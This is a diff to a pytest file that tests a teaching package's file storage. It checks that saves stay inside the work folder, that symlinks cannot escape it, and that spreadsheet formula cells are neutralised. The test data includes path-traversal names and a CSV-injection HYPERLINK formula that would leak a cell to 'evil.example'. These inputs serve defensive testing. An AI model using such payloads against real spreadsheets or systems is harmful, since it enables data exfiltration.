@@ -3,6 +3,8 @@ import os
 
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from medialit import storage
 
@@ -85,10 +87,66 @@ def test_reading_explains_missing_files_and_columns(work_dir):
         storage.read_csv("broken.csv")
 
 
-def test_absolute_paths_are_used_as_given(tmp_path):
-    target = tmp_path / "elsewhere" / "out.csv"
-    saved = storage.save_csv(pd.DataFrame({"a": [1]}), target)
-    assert saved.path == target and target.is_file()
+def test_absolute_paths_are_accepted_only_inside_the_work_folder(work_dir, tmp_path):
+    """Changed on purpose (issue 15): an absolute path used to be written as given, wherever it pointed."""
+    inside = work_dir / "sub" / "out.csv"
+    assert storage.save_csv(pd.DataFrame({"a": [1]}), inside).path == inside.resolve()
+    elsewhere = tmp_path / "elsewhere" / "out.csv"
+    with pytest.raises(storage.StorageError, match=r"Files you save go in your work folder, .*my_work/: give a plain name"):
+        storage.save_csv(pd.DataFrame({"a": [1]}), elsewhere)
+    assert not elsewhere.exists()
+
+
+def test_reading_may_still_look_anywhere(work_dir, tmp_path):
+    """A teacher reads a folder of submissions; reading never changes a file, so it is not confined."""
+    storage.save_csv(pd.DataFrame({"a": ["=1+1"]}), "table.csv")
+    outside = tmp_path / "copy.csv"
+    outside.write_bytes((work_dir / "table.csv").read_bytes())
+    assert storage.read_csv(outside)["a"].tolist() == ["=1+1"]
+
+
+@pytest.mark.parametrize("name", ["../data/claims.csv", "../../x.csv", "~/x.csv", "sub/../../escape.csv", "/etc/medialit.csv",
+                                  "../lessons/evil.ipynb.csv", "../solutions/x.csv", "."])
+def test_names_leading_out_of_the_work_folder_are_refused(work_dir, name):
+    with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
+        storage.save_csv(pd.DataFrame({"a": [1]}), name) if name != "." else storage.atomic_write_text(name, "x")
+    with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
+        storage.atomic_write_text(name, "x")
+
+
+def test_a_folder_named_like_the_course_folders_inside_my_work_is_the_learners_own(work_dir):
+    assert storage.save_csv(pd.DataFrame({"a": [1]}), "lessons/evil.ipynb.csv").path == (work_dir / "lessons" / "evil.ipynb.csv").resolve()
+
+
+def test_symlinks_out_of_the_work_folder_are_refused(work_dir, tmp_path):
+    work_dir.mkdir(parents=True)
+    victim = tmp_path / "victim.csv"
+    victim.write_text("keep me")
+    (work_dir / "link.csv").symlink_to(victim)
+    (tmp_path / "outside").mkdir()
+    (work_dir / "linked_folder").symlink_to(tmp_path / "outside", target_is_directory=True)
+    for name in ("link.csv", "linked_folder/new.csv"):
+        with pytest.raises(storage.StorageError, match="Files you save go in your work folder"):
+            storage.save_csv(pd.DataFrame({"a": [1]}), name)
+    assert victim.read_text() == "keep me" and not (tmp_path / "outside" / "new.csv").exists()
+    (work_dir / "loop.csv").symlink_to(work_dir / "loop.csv")
+    with pytest.raises(storage.StorageError):
+        storage.atomic_write_text("loop.csv", "x")
+
+
+def test_a_symlink_within_the_work_folder_saves_into_its_target(work_dir):
+    storage.atomic_write_text("real.csv", "a\n1\n")
+    (work_dir / "alias.csv").symlink_to(work_dir / "real.csv")
+    assert storage.save_csv(pd.DataFrame({"a": [2]}), "alias.csv").path == (work_dir / "real.csv").resolve()
+    assert storage.read_csv("real.csv")["a"].tolist() == ["2"]
+
+
+@pytest.mark.parametrize("folder", ["data", "lessons", "solutions", "."])
+def test_the_course_folders_are_never_written_even_as_the_work_folder(monkeypatch, folder):
+    """Only ``resolve`` is called here: if the guard failed, nothing would have been written yet."""
+    monkeypatch.setenv(storage.WORK_DIR_ENV, str(storage.course_dir() / folder))
+    with pytest.raises(storage.StorageError, match="never written by its notebooks|Files you save go in"):
+        storage.resolve("claims.csv" if folder != "." else "data/claims.csv")
 
 
 def test_a_read_only_course_folder_sends_work_home(monkeypatch, tmp_path):
@@ -157,3 +215,83 @@ def test_paths_show_relative_to_the_course_folder_only_inside_it(work_dir, tmp_p
     assert storage.display_path(work_dir / "answers.csv") == str(work_dir.resolve() / "answers.csv")
     assert storage.atomic_write_text("answers.csv", "x").message == f"Saved your work to {work_dir.resolve() / 'answers.csv'}."
     assert storage.display_path("a\0b") == "a\0b"  # never raises, even for a name no disk accepts
+
+
+def test_a_read_only_file_is_never_replaced(work_dir):
+    storage.save_csv(pd.DataFrame({"a": [1]}), "mine.csv")
+    (work_dir / "mine.csv").chmod(0o444)
+    before = (work_dir / "mine.csv").read_bytes()
+    with pytest.raises(storage.StorageError, match=r"mine.csv is read-only, so it is left as it is; save under another name"):
+        storage.save_csv(pd.DataFrame({"a": [2]}), "mine.csv")
+    assert (work_dir / "mine.csv").read_bytes() == before and not (work_dir / "mine.csv.bak").exists()
+    assert storage.save_csv(pd.DataFrame({"a": [2]}), "other.csv").rows == 1
+
+
+def test_temporaries_left_by_killed_saves_are_cleaned_on_the_next_save(work_dir):
+    storage.atomic_write_text("notes.txt", "first")
+    old = [work_dir / f".notes.txt.{n:08x}.tmp" for n in range(13)] + [work_dir / ".notes.txt.bak.0badcafe.tmp"]
+    young = work_dir / ".notes.txt.12345678.tmp"  # may be another kernel's save under way
+    others = [work_dir / ".other.csv.0badcafe.tmp", work_dir / ".notes.txt.not-hex!.tmp", work_dir / "notes.txt.0badcafe.tmp"]
+    for path in (*old, young, *others):
+        path.write_text("half")
+    stale = os.path.getmtime(work_dir / "notes.txt") - storage.STALE_TEMPORARY_SECONDS - 1
+    for path in (*old, *others):
+        os.utime(path, (stale, stale))
+    saved = storage.atomic_write_text("notes.txt", "second")
+    left = {p.name for p in work_dir.iterdir()}
+    assert left == {"notes.txt", "notes.txt.bak", young.name, *(p.name for p in others)}
+    assert saved.backup.read_text() == "first"
+
+
+CELLS = ["=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"x\")", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=1+1", "''@x",
+         "'", "'plain", "plain", "", "5 km", "a=b", " =1", "a\rb", "a\r\nb"]
+
+
+@pytest.mark.parametrize("cell", CELLS)
+def test_formula_cells_are_neutralised_and_read_back_exactly(work_dir, cell):
+    written = storage.neutralise_cell(cell)
+    assert storage.restore_cell(written) == cell
+    assert written[:1] not in storage.FORMULA_STARTS
+    assert written == ("'" + cell if cell.lstrip("'")[:1] in storage.FORMULA_STARTS and cell.lstrip("'") else cell)
+    frame = pd.DataFrame({"text": [cell], cell or "empty": ["x"], "number": [-5]})
+    storage.save_csv(frame, "cells.csv")
+    back = storage.read_csv("cells.csv")
+    assert back.columns.tolist() == ["text", cell or "empty", "number"]
+    assert back["text"].tolist() == [cell] and back["number"].tolist() == ["-5"]  # a number is not a formula
+
+
+def test_the_contracts_examples():
+    """CONTRACTS.md C: a leading ', and read back without it."""
+    for start in "=+-@\t\r":
+        assert storage.neutralise_cell(start + "x") == "'" + start + "x"
+        assert storage.restore_cell("'" + start + "x") == start + "x"
+    assert storage.restore_cell("'x") == "'x" and storage.neutralise_cell("x=1") == "x=1"
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text())
+def test_every_cell_survives_the_round_trip(cell):
+    assert storage.restore_cell(storage.neutralise_cell(cell)) == cell
+    assert storage.neutralise_cell(cell)[:1] not in storage.FORMULA_STARTS
+
+
+def test_what_autosave_compares_is_what_save_writes(work_dir):
+    frame = pd.DataFrame({"text": ["=1", "x"], "value": [1.5, None]})
+    saved = storage.save_csv(frame, "t.csv")
+    assert saved.path.read_text(encoding="utf-8") == storage.csv_text(frame) == "text,value\n'=1,1.5\nx,\n"
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=5))
+def test_any_text_table_reads_back_as_saved(tmp_path_factory, cells):
+    folder = tmp_path_factory.mktemp("round_trip")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv(storage.WORK_DIR_ENV, str(folder))
+        storage.save_csv(pd.DataFrame({"text": cells}), "t.csv")
+        assert storage.read_csv("t.csv")["text"].tolist() == cells
+
+
+def test_a_lone_surrogate_is_saved_as_its_escape_not_a_traceback(work_dir):
+    """A hostile answer ("5 \\ud800") once made every later export of the session fail with UnicodeEncodeError."""
+    storage.save_csv(pd.DataFrame({"answer": ["5 \ud800", "ok"]}), "answers.csv")
+    assert storage.read_csv("answers.csv")["answer"].tolist() == ["5 \\ud800", "ok"]
